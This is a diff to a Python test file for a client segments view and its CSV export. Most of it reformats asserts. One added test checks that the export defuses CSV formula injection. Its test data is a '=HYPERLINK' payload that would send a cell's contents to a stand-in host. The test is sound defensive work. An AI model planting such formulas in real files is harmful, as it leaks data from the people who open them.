@@ -116,7 +116,9 @@ def test_client_page_summary():
     page = segments_view.ClientPage(D, [], total=1234, page=3, pages=124, page_size=10)
     assert page.summary == "Clients 21–30 of 1,234"
     assert segments_view.ClientPage(D, [], 0, 1, 1, 10).summary == "No clients match"
-    assert segments_view.ClientPage(None, [], 0, 1, 1, 10).summary.startswith("No health scores yet")
+    assert segments_view.ClientPage(None, [], 0, 1, 1, 10).summary.startswith(
+        "No health scores yet"
+    )
 
 
 def test_column_defs_hide_the_last_interaction_time_on_the_projector():
@@ -229,7 +231,12 @@ def test_client_page_pages_on_the_server(session, make_client, make_score):
         session, ViewState(risk=(RiskLevel.CRITICAL,)), zone=LONDON, now=now, page_size=100
     )
     assert critical.total == 10  # scores 0, 4, ... 36
-    assert segments_view.segment_counts(session) == {"low": 5, "medium": 5, "high": 5, "critical": 10}
+    assert segments_view.segment_counts(session) == {
+        "low": 5,
+        "medium": 5,
+        "high": 5,
+        "critical": 10,
+    }
 
 
 def test_a_huge_page_in_the_url_is_capped():
@@ -265,3 +272,22 @@ def test_the_export_has_every_filtered_client_in_the_tables_order(session, make_
 
 def test_no_export_before_the_first_scoring_run(session):
     assert segments_view.segment_export(session, ViewState()) is None
+
+
+def test_the_export_writes_a_formula_in_a_name_as_text(session, make_client, make_score):
+    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
+    day = dt.date(2026, 3, 10)
+    make_client("c-1", name=link, venue="@Kew")
+    # A clock set wrong on the importing machine: activity "in the future".
+    make_score("c-1", day, 35.0, days_since_activity=-5.0)
+
+    _, content = segments_view.segment_export(session, ViewState())
+    lines = content.decode("utf-8").splitlines()
+    frame = pd.read_csv(io.BytesIO(content), keep_default_na=False)
+
+    assert frame["client"].tolist() == ["'" + link]
+    assert frame["venue"].tolist() == ["'@Kew"]
+    # Numbers stay numbers: written bare, read back as numbers.
+    assert frame["days_since_activity"].tolist() == [-5]
+    assert frame["score"].tolist() == [35]
+    assert ",35," in lines[1] and ",-5," in lines[1]
